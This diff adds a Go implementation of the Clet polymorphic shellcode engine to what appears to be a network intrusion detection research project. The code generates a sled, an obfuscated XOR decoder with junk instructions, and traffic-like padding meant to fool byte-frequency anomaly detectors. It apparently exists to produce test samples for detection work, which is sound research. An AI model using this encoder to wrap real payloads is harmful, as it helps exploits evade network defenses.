@@ -1,0 +1,129 @@
+package polymorph
+
+import (
+	"errors"
+	"fmt"
+	"math/rand"
+
+	"semnids/internal/x86"
+)
+
+// Clet reconstructs the Clet polymorphic engine (Phrack 61): an
+// xor-based decoder obscured with substitution and junk, plus
+// "spectrum analysis" defeating padding — trailing bytes drawn from a
+// distribution resembling normal (English/HTTP) traffic so that
+// byte-frequency anomaly detectors score the packet as benign.
+//
+// Clet always decodes with an xor loop, which is why the paper's xor
+// decryption template matched all 100 generated instances (Table 2).
+type Clet struct {
+	rng *rand.Rand
+
+	// MaxSled bounds the NOP-like sled length.
+	MaxSled int
+
+	// PadLen is the number of spectrum-padding bytes appended
+	// (0 disables padding).
+	PadLen int
+}
+
+// NewClet returns a Clet-style engine seeded for reproducibility.
+func NewClet(seed int64) *Clet {
+	return &Clet{
+		rng:     rand.New(rand.NewSource(seed)),
+		MaxSled: 32,
+		PadLen:  64,
+	}
+}
+
+// spectrumAlphabet approximates the byte distribution of English web
+// traffic: letters weighted by frequency, plus space and punctuation.
+var spectrumAlphabet = []byte("etaoinshrdlucmfwypvbgkjqxz ETAOIN.,;:/-0123456789")
+
+// Encode produces one polymorphic sample wrapping payload.
+func (c *Clet) Encode(payload []byte) ([]byte, Meta, error) {
+	if len(payload) == 0 {
+		return nil, Meta{}, errors.New("polymorph: empty payload")
+	}
+	rng := c.rng
+
+	ptrPool := []x86.Reg{x86.ESI, x86.EDI, x86.EBX, x86.EDX}
+	ptr := ptrPool[rng.Intn(len(ptrPool))]
+	useLoop := rng.Intn(2) == 0
+	cnt := x86.ECX
+	if !useLoop {
+		cntPool := remove([]x86.Reg{x86.ECX, x86.EAX, x86.EDX}, ptr)
+		cnt = cntPool[rng.Intn(len(cntPool))]
+	}
+	keyFams := remove(remove([]x86.Reg{x86.EAX, x86.EBX, x86.ECX, x86.EDX}, ptr), cnt)
+
+	key := byte(rng.Intn(255) + 1)
+	useKeyReg := rng.Intn(2) == 0
+	var keyFam x86.Reg = x86.RegNone
+	if useKeyReg {
+		keyFam = keyFams[rng.Intn(len(keyFams))]
+	}
+
+	scratch := famPool
+	for _, used := range []x86.Reg{ptr, cnt, keyFam} {
+		scratch = remove(scratch, used)
+	}
+	junk := &junkCtx{rng: rng, scratch: scratch}
+
+	sledLen := 4 + rng.Intn(c.MaxSled-3)
+	a := x86.NewAsm()
+	genSled(rng, a, sledLen)
+
+	a.Jmp("call").
+		Label("decoder").
+		PopR(ptr).PushR(ptr)
+	junk.emitJunk(a, 2)
+	emitCounter(rng, a, cnt, int64(len(payload)))
+	if useKeyReg {
+		junk.emitJunk(a, 1)
+		emitKey(rng, a, keyFam, key)
+	}
+	a.Label("loop")
+	if useKeyReg {
+		a.I(x86.XOR, mem8(ptr), x86.RegOp(low8(keyFam)))
+	} else {
+		a.I(x86.XOR, mem8(ptr), x86.ImmOp(int64(int8(key))))
+	}
+	junk.emitJunk(a, 2)
+	emitAdvance(rng, a, ptr)
+	junk.emitJunk(a, 1)
+	if useLoop {
+		a.Loop("loop")
+	} else {
+		a.DecR(cnt).JccShort(x86.CondNE, "loop")
+	}
+	a.I(x86.RET).
+		Label("call").Call("decoder")
+
+	head, err := a.Bytes()
+	if err != nil {
+		return nil, Meta{}, fmt.Errorf("polymorph: %w", err)
+	}
+	out := make([]byte, 0, len(head)+len(payload)+c.PadLen)
+	out = append(out, head...)
+	for _, b := range payload {
+		out = append(out, b^key)
+	}
+	// Spectrum padding: the decoder's counter covers only the payload,
+	// so trailing bytes never execute but reshape the byte histogram.
+	for i := 0; i < c.PadLen; i++ {
+		out = append(out, spectrumAlphabet[rng.Intn(len(spectrumAlphabet))])
+	}
+	meta := Meta{
+		Scheme:     SchemeXor,
+		Key:        key,
+		Transform:  "xor-imm",
+		SledLen:    sledLen,
+		PayloadOff: len(head),
+		PayloadLen: len(payload),
+	}
+	if useKeyReg {
+		meta.Transform = "xor-reg"
+	}
+	return out, meta, nil
+}
